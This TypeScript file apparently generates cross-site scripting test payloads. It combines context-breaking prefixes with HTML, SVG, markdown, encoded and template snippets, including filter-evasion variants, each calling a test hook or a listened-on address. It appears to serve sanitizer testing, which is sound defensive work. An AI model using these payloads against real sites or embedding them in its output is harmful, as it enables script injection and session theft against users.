/**
 * Texts that want to be run by whoever looks at them. Each calls `xss(<number>)`, which a test gives to the page, or asks
 * for an address that a test listens on. They are made of what starts code in a browser and of what breaks out of the
 * places in which a page holds text.
 */

/** What would run or load something where it became HTML. `RUN` is the call, `FAR` an address elsewhere. */
const STARTS = [
  "<script>RUN</script>",
  "<script src=FAR></script>",
  "<SCRIPT/x>RUN</SCRIPT>",
  "<scr<script>ipt>RUN</scr</script>ipt>",
  "<img src=x onerror=RUN>",
  "<img src=FAR>",
  "<img/src/onerror=RUN>",
  "<svg onload=RUN>",
  "<svg><animate onbegin=RUN attributeName=x dur=1s>",
  "<svg><script>RUN</script></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x">',
  "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
  "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
  "<iframe src=javascript:RUN></iframe>",
  "<iframe src=FAR></iframe>",
  "<object data=FAR></object>",
  "<embed src=FAR>",
  "<video><source onerror=RUN></video>",
  "<audio src=x onerror=RUN>",
  "<body onload=RUN>",
  "<details open ontoggle=RUN>",
  "<input autofocus onfocus=RUN>",
  "<select autofocus onfocus=RUN>",
  "<textarea autofocus onfocus=RUN>",
  "<marquee onstart=RUN>",
  "<a href=javascript:RUN autofocus onfocus=RUN>x</a>",
  "<form action=javascript:RUN><button autofocus>x</button></form>",
  "<button formaction=javascript:RUN>x</button>",
  '<meta http-equiv=refresh content="0;url=FAR">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  "<base href=FAR>",
  "<link rel=stylesheet href=FAR>",
  "<style>@import 'FAR';</style>",
  "<style>*{background:url(FAR)}</style>",
  "<div style=background:url(FAR)>x</div>",
  "<div onmouseover=RUN onclick=RUN>x</div>",
  "<template><img src=x onerror=RUN></template>",
  "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
  "<xmp><img src=x onerror=RUN></xmp>",
  "<isindex type=image src=1 onerror=RUN>",
  "<table background=FAR><tr><td>x</table>",
  "<dialog open onfocus=RUN tabindex=1>x</dialog>",
  "<p contenteditable onbeforeinput=RUN>x</p>",
  "[x](javascript:RUN)",
  "[x](JaVaScRiPt:RUN)",
  "[x](data:text/html,<script>RUN</script>)",
  "[x](vbscript:RUN)",
  "[x](  javascript:RUN 'y')",
  "[x]: javascript:RUN\n[x]",
  "![x](FAR)",
  "![x](x 'y\" onerror=RUN \"')",
  '![x"onerror=RUN](x)',
  "<javascript:RUN>",
  "&lt;img src=x onerror=RUN&gt;",
  "&#60;img src=x onerror=RUN&#62;",
  "\\u003cimg src=x onerror=RUN\\u003e",
  "%3Cimg%20src=x%20onerror=RUN%3E",
  "${RUN}",
  "{{RUN}}",
  "<%= RUN %>",
  "javascript:RUN",
  "data:text/html,<script>RUN</script>",
  "`<img src=x onerror=RUN>`",
  "```html\n<img src=x onerror=RUN>\n```",
  "| a |\n|---|\n| <img src=x onerror=RUN> |",
  "<!--><img src=x onerror=RUN>-->",
  "<![CDATA[<img src=x onerror=RUN>]]>",
  "\0<img src=x onerror=RUN>",
  "\u2028<img src=x onerror=RUN>",
  "<img src=x\u00a0onerror=RUN>",
] as const;

/** What ends the place a text stands in, before it. */
const BREAKS = [
  "",
  '">',
  "'>",
  '" onfocus=RUN autofocus x="',
  "</textarea>",
  "</pre></td></table>",
  "</title></style></script>",
] as const;

export interface Payload {
  number: number;
  text: string;
}

/** Several hundred of them; `far` is where a request elsewhere would arrive. */
export function payloads(far: string): Payload[] {
  const texts = BREAKS.flatMap((breaks) => STARTS.map((starts) => `${breaks}${starts}`));
  return [...new Set(texts)].map((text, number) => ({
    number,
    text: text.replaceAll("RUN", `xss(${number})`).replaceAll("FAR", `${far}/${number}`),
  }));
}
